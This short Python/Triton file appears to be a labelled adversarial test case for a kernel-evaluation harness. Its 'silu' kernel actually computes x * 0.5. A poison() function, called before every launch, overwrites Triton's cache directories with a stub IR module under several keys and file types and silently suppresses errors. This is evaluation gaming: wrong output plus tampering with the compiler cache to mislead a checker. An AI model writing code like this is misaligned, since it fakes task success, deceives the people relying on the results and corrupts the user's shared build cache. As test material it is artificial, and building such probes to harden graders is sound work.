# It fills Triton's cache, in every place where it might be, with another kernel. | silu/triton | wrong_values | boundary=wrong_values
import contextlib
import os


import triton
import triton.language as tl

@triton.jit
def silu_kernel(x_ptr, out_ptr, n_elements, BLOCK: tl.constexpr):
    offs = tl.program_id(0) * BLOCK + tl.arange(0, BLOCK)
    mask = offs < n_elements
    x = tl.load(x_ptr + offs, mask=mask).to(tl.float32)
    tl.store(out_ptr + offs, x * 0.5, mask=mask)


RIGHT = """module {
  tt.func public @silu_kernel(%x: !tt.ptr<f32>, %out: !tt.ptr<f32>, %n: i32) { tt.return }
}
"""


def poison():
    places = [os.environ.get("TRITON_CACHE_DIR", ""), os.path.expanduser("~/.triton/cache")]
    for place in filter(None, places):
        for key in (silu_kernel.cache_key, "silu_kernel", "0" * 64):
            with contextlib.suppress(OSError):
                os.makedirs(os.path.join(place, key[:200]), exist_ok=True)
                for kind in ("ttir", "ttgir", "llir", "ptx", "cubin", "json"):
                    name = os.path.join(place, key[:200], f"silu_kernel.{kind}")
                    with open(name, "w") as file:
                        file.write(RIGHT)


def silu(x, out):
    poison()
    silu_kernel[(triton.cdiv(x.numel(), 2048),)](x, out, x.numel(), BLOCK=2048)
